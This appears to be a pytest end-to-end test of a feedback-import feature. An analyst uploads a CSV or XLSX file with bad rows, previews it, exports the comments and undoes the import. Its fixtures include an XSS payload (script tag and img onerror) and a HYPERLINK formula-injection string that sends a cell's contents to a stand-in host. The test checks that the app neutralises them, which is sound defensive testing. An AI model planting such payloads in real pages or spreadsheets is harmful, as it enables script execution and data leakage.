"""An analyst brings in a spreadsheet with bad rows: each is named, the good come in, and all can be taken back."""

import csv
from pathlib import Path

import pytest
import python_calamine
import xlsxwriter
from tests.journeys.walker import DESK, PLAIN, Walker

pytestmark = pytest.mark.journey

HEAD = ("Date", "Comment", "Team", "Score", "Reference")
SCRIPT = "<script>document.title='broken'</script><img src=x onerror=\"document.title='broken'\">"
FORMULA = '=HYPERLINK("http://elsewhere.example/?"&A1,"Press here")'
ARABIC = "لم يخبرني أحد بما سيحدث بعد ذلك وانتظرت طويلا"
EMOJI = "Kind and patient with Mum 😀👍🏽 every single time"
GOOD = (
    ("01/02/2024", "They rang back the same day, as they said they would", "First Contact", "5", "J-1"),
    ("2 February 2024", FORMULA, "First Contact", "1", "J-2"),
    ("03/02/2024", EMOJI, "Carers", "5", "J-3"),
    ("04/02/2024", ARABIC, "Carers", "2", "J-4"),
    ("05/02/2024", SCRIPT, "Carers", "3", "J-5"),
)
BAD = (
    ("31/02/2024", "The thirtieth of February and one more", "Carers", "3", "J-6"),
    ("some time ago", "Nobody knows when", "Carers", "3", "J-7"),
    ("06/02/2024", "", "Carers", "3", "J-8"),
    ("01/02/2024", "They rang back the same day, as they said they would", "First Contact", "5", "J-1"),
    ("01/02/2999", "Said in a time to come", "Carers", "3", "J-9"),
)
FIRST_BAD = 2 + len(GOOD)  # the header is row 1
TO_MEND = {
    FIRST_BAD + place for place, row in enumerate(BAD) if row[1]
}  # a row without words has nothing to mend


def as_csv(path: Path) -> Path:
    with path.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows([HEAD, *GOOD, *BAD])
    return path


def as_xlsx(path: Path) -> Path:
    """Write every cell as words, and one that is a formula of the spreadsheet itself."""
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet("Answers")
        for row, cells in enumerate([HEAD, *GOOD, *BAD]):
            for column, cell in enumerate(cells):
                sheet.write_string(row, column, cell)
        sheet.write_formula(2, 3, "=2-1", value=1)
    return path


def send(analyst: Walker, path: Path) -> None:
    analyst.council("feedback/")
    analyst.follows("Bring in comments")
    analyst.sees("Bring in comments from a file")
    analyst.page.get_by_label("File", exact=False).first.set_input_files(path)
    analyst.types("What is this data called?", "Spring calls")
    analyst.presses("Look at the file")


@pytest.mark.parametrize(
    ("way", "write", "name"),
    [(DESK, as_xlsx, "spring.xlsx"), (PLAIN, as_csv, "spring.csv")],
    ids=["spreadsheet, desk", "CSV, no scripts"],
)
def test_an_analyst_keeps_the_good_rows_of_a_bad_sheet(writer, tmp_path, way, write, name):
    # Given a performance analyst with a sheet in which half of the rows are wrong
    analyst = writer(way)
    analyst.council()
    analyst.signs_in("ben@northshire.example")
    analyst.sees("Ben")
    # When he sends it, he sees what is in it before anything is kept
    send(analyst, write(tmp_path / name))
    analyst.sees("Nothing has come in yet", f"Check {name}")
    analyst.photographs("import-preview")
    analyst.sees("1 row had no words, and was left out.", *(f"Row {row}" for row in TO_MEND))
    # And takes the list of what to mend away
    mend = list(csv.reader(analyst.takes_away("what to mend").open(encoding="utf-8-sig")))
    assert {int(line[0]) for line in mend[1:] if line[0]} == TO_MEND
    assert all(line[2].endswith(".") for line in mend[1:])
    # When he accepts the good, they are in the list, as words and nothing else
    analyst.presses("Bring in")
    analyst.sees("5 comments")
    analyst.council("feedback/?since_0=1&since_1=2&since_2=2024&until_0=5&until_1=2&until_2=2024&words=Kind")
    analyst.sees(EMOJI)
    analyst.council("feedback/?words=document.title")
    analyst.sees("document.title='broken'")
    assert "broken" not in analyst.page.title()
    # And leave again as CSV and XLSX, where a formula stays words
    exported(analyst)
    # When he undoes the file, nothing of it is left
    analyst.council("files/")
    analyst.sees(name)
    analyst.follows(name)
    analyst.sees("See the comments")
    analyst.follows("Undo this file")
    analyst.sees(f"Undo {name}?", "5 comments")
    analyst.presses("Undo this file")
    analyst.sees("taken away")
    analyst.council("feedback/?words=Kind+and+patient+with+Mum")
    analyst.sees("No comments here")


def exported(analyst: Walker) -> None:
    analyst.council("feedback/?words=HYPERLINK")
    analyst.sees("HYPERLINK")
    lines = list(csv.reader(analyst.takes_away("CSV").open(encoding="utf-8-sig")))
    told = [cell for cell in lines[1] if "HYPERLINK" in cell]
    assert told and all(cell[0] not in "=+-@\t\r" for cell in told), lines
    book = python_calamine.load_workbook(str(analyst.takes_away("XLSX")))
    sheet = book.get_sheet_by_index(0).to_python()
    assert any("HYPERLINK" in str(cell) for cell in sheet[1]), sheet
    assert [cell for cell in lines[0] if cell] == [str(cell) for cell in sheet[0] if cell]
